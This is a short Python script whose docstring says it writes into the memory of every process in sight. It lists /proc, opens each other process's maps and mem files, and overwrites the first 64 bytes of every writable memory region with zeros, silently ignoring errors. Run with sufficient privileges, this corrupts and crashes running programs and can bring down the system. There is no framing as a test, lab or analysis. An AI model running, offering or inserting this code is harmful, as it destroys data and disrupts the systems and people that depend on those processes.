"""Writes into the memory of every process in sight."""
import os
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            with open(f"/proc/{name}/maps") as maps, open(f"/proc/{name}/mem", "r+b") as memory:
                for line in maps:
                    if "rw" in line:
                        start = int(line.split("-")[0], 16)
                        memory.seek(start)
                        memory.write(b"\0" * 64)
        except OSError:
            pass
